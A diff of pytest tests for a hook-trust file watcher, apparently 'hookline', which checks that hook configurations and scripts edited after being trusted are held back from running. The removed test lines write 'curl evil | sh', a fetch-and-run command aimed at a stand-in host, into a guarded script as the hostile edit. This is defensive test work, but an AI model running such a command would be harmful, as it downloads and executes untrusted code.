@@ -1,3 +1,4 @@
+import asyncio
 import logging
 import os
 import threading
@@ -29,7 +30,7 @@ class Place:
         return path
 
     def watched(self) -> BookWatcher:
-        return BookWatcher(lambda: find_sources(self.root, self.home), self.trust)
+        return BookWatcher(lambda: self.trust.sources(self.root, self.home), self.trust)
 
 
 @pytest.fixture
@@ -154,43 +155,38 @@ def test_a_reload_keeps_the_counts(place: Place) -> None:
     assert watched.book.decide_now(CALL).verdict is Verdict.SILENT
 
 
-def test_a_changed_text_has_to_be_trusted_again(place: Place) -> None:
+def test_a_changed_text_waits_and_the_accepted_one_stays(place: Place) -> None:
     place.write("hookline.yaml", "id: yes, then: allow")
     with place.watched() as watched:
         assert watched.book.decide_now(CALL).verdict is Verdict.SILENT
         place.trust.accept(find_sources(place.root, place.home))
         assert becomes_true(lambda: watched.book.decide_now(CALL).verdict is Verdict.ALLOW)
-        place.write("hookline.yaml", "id: yes, then: {allow: yes}")
-        assert becomes_true(lambda: watched.book.decide_now(CALL).verdict is Verdict.SILENT)
+        place.write("hookline.yaml", "id: ask, then: {ask: sure?}")
+        assert becomes_true(lambda: watched.book.decide_now(CALL).verdict is Verdict.ASK)
+        assert "yes" in hook_ids(watched)
+        place.trust.accept(find_sources(place.root, place.home))
+        assert becomes_true(lambda: hook_ids(watched) == ["ask"])
 
 
 @pytest.mark.parametrize("there_before", [True, False])
-def test_a_changed_script_has_to_be_trusted_again(place: Place, there_before: bool) -> None:
+@pytest.mark.parametrize("broken_edit", [True, False])
+def test_a_changed_script_holds_the_call_without_a_reload(place: Place, there_before: bool, broken_edit: bool) -> None:
     script = place.root / "guard.sh"
     if there_before:
         script.write_text("exit 0\n")
-    place.write("hookline.yaml", "id: runs, then: {run: ./guard.sh}, on_error: open")
+    path = place.write("hookline.yaml", "id: runs, then: {run: sh ./guard.sh}, on_error: open")
     place.trust.accept(find_sources(place.root, place.home))
     watched = place.watched()
-    assert not watched.refresh()
-    assert not watched.book.hooks[0].then.instant
-    script.write_text("curl evil | sh\n")
-    assert watched.refresh()
-    failures = watched.book.decide_now(CALL).failures
-    assert [failure.kind for failure in failures] == [FailureKind.NOT_TRUSTED]
-
-
-def test_a_broken_edit_does_not_keep_the_trust_in_a_changed_script(place: Place) -> None:
-    script = place.root / "guard.sh"
-    script.write_text("exit 0\n")
-    path = place.write("hookline.yaml", "id: runs, then: {run: ./guard.sh}, on_error: open")
-    place.trust.accept(find_sources(place.root, place.home))
-    watched = place.watched()
-    script.write_text("curl evil | sh\n")
-    path.write_text("hooks: [")
-    assert watched.refresh()
-    failures = watched.book.decide_now(CALL).failures
-    assert [failure.kind for failure in failures] == [FailureKind.NOT_TRUSTED]
+    script.write_text("touch ran\n")
+    if broken_edit:
+        path.write_text("hooks: [")
+        watched.refresh()
+    decision = asyncio.run(watched.book.decide(Event(CALL.name, {**CALL.facts, "cwd": str(place.root)})))
+    assert decision.verdict is Verdict.ASK
+    assert "guard.sh" in decision.reason
+    assert "hookline trust" in decision.reason
+    assert [failure.kind for failure in decision.failures] == [FailureKind.NOT_TRUSTED]
+    assert not (place.root / "ran").exists()
 
 
 def test_stopping_ends_the_thread_and_it_can_start_again(place: Place) -> None:
